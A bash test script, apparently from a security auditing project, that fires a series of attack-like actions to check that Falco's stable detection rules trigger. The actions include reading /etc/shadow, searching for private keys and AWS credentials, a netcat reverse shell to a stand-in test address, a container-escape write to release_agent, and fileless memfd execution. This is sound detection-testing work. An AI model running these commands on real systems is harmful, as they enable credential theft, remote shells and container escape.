#!/usr/bin/env bash
# SPDX-License-Identifier: GPL-2.0-or-later
# falco_rules.sh - Falco's stable rules, unmodified: each fires on what it
# describes (as falcosecurity's event-generator does it), and on nothing else of
# it; then what every host does all day raises none but those that Falco, too,
# would raise.
. "${top_srcdir:-.}/tests/live/lib.sh"

falco=${SAKER_TEST_DATA:-$top_srcdir/../shared/data}/falco/falco_rules.yaml
[ -r "$falco" ] || skip "Falco's rules are not here"
begin runc busybox script find shred
own_rules_only=yes
install -m 644 "$falco" "$work/rules/falco_rules.yaml"
act=$work/act
install -m 755 "$top_builddir/tests/live/act" "$act"
for name in httpd login ssh; do
	ln -s act "$work/$name"
done
server=203.0.113.7 # TEST-NET-3: no private address, and nobody's

# fired_since LINES: the rules that fired after so many lines of alerts.
fired_since()
{
	tail -n "+$(($1 + 1))" "$work/alerts.json" |
		jq -r 'select(.rule != "Test marker").rule' | sort -u
}

# expect RULES COMMAND...: RULES, a line each, are what the command fires.
expect()
{
	local rules=$1 before fired

	shift
	before=$(wc -l <"$work/alerts.json")
	"$@" </dev/null >>"$work/acts.out" 2>&1
	marker
	fired=$(fired_since "$before")
	equal "${rules:-nothing}: $*" "$rules" "$fired"
	printf '%s\n' "$fired" >>"$work/fired"
}

in_container()
{
	runc exec saker-falco "$@"
}

# A container on an overlay, as engines make them, with the rights that some
# rules ask for.
start_container()
{
	make_bundle "$work/container" "" '.process.args = ["sleep", "1000"] |
		.process.capabilities[] = ["CAP_SYS_ADMIN", "CAP_SYS_MODULE", "CAP_NET_RAW",
			"CAP_NET_ADMIN", "CAP_DAC_OVERRIDE"] | .root.path = "merged"'
	install -m 755 "$act" "$work/container/rootfs/bin/act"
	for name in nc debugfs; do
		ln "$work/container/rootfs/bin/act" "$work/container/rootfs/bin/$name"
	done
	ln -s busybox "$work/container/rootfs/bin/cp"
	mkdir "$work/container"/{upper,work,merged}
	mount -t overlay overlay -o "lowerdir=$work/container/rootfs,upperdir=$work/container/upper,workdir=$work/container/work" \
		"$work/container/merged" || die "no overlay"
	mounts+=("$work/container/merged")
	run_detached "$work/container" saker-falco ||
		die "runc: $(cat "$work/saker-falco.out")"
}

stable_rules_fire()
{
	expect "Directory traversal monitored file read" \
		"$act" run cat /etc/../etc/../etc/shadow
	expect "Read sensitive file trusted after startup" "$work/httpd" after 6 /etc/shadow
	expect "Read sensitive file untrusted" cat /etc/shadow
	expect "Read sensitive file untrusted" cat /etc/pam.d/login
	expect "Run shell untrusted" "$work/httpd" run sh -c 'true >/dev/null'
	expect "System user interactive" "$act" as 1 "$work/login" read /etc/hostname
	expect "Terminal shell in container" \
		script -qec "runc exec -t saker-falco sh -c true" /dev/null
	expect "Netcat Remote Code Execution in Container" in_container nc -e /bin/sh "$server" 22
	expect "Search Private Keys or Passwords" find "$work" -maxdepth 1 -iname id_rsa
	expect "Search Private Keys or Passwords" grep "BEGIN RSA PRIVATE" "$work/kernel.rules"
	expect "Clear Log Activities" "$act" empty "$work/syslog"
	expect "Clear Log Activities" in_container act empty /tmp/auth.log
	touch "$work/data"
	expect "Remove Bulk Data from Disk" shred -u "$work/data"
	expect "Create Symlink Over Sensitive Files" ln -s /etc "$work/etc_link"
	expect "Create Symlink Over Sensitive Files" ln -s /etc/shadow "$work/shadow_symlink"
	expect "Create Hardlink Over Sensitive Files" ln /etc/shadow "$work/shadow_link"
	rm -f "$work/shadow_link"
	expect "Packet socket created in container" in_container act packet
	expect "Redirect STDOUT/STDIN to Network Connection in Container" \
		in_container act served "$server" 4444 act redirect "$server" 4444
	expect "Linux Kernel Module Injection Detected" in_container act module
	expect "Detect release_agent File Container Escapes" \
		in_container sh -c 'echo hello >release_agent'
	expect "PTRACE attached to process" "$act" attach
	expect "PTRACE anti-debug attempt" "$act" traceme
	expect "Find AWS Credentials" find "$work" -maxdepth 1 -iname .aws/credentials
	expect "Find AWS Credentials" grep aws_secret_access_key "$work/kernel.rules"
	printf '#!/bin/sh\necho hello\n' >"$shm/script"
	chmod 755 "$shm/script"
	expect "Execution from /dev/shm" sh -c "$shm/script"
	expect "Drop and execute new binary in container" \
		in_container sh -c 'cp /bin/act /tmp/dropped; exec /tmp/dropped read /etc/hostname'
	expect "Disallowed SSH Connection Non Standard Port" \
		"$act" served "$server" 443 "$work/ssh" connect "$server" 443
	expect "Fileless execution via memfd_create" "$act" memfd "$(type -P true)"
}

load_kernel_rules "$(grep '^-a' "$top_srcdir/audit.rules.d/examples/60-falco-stable.rules")"
shm=$(mktemp -d /dev/shm/saker-live.XXXXXX)
start_saker_netlink
start_container
stable_rules_fire
rm -rf "$shm"
stop_saker
echo "rules that fired: $(sort -u "$work/fired" | grep -c .) of $(grep -c "^- rule:" "$falco")"
equal "the kernel lost nothing" 0 "$(kernel_lost)"
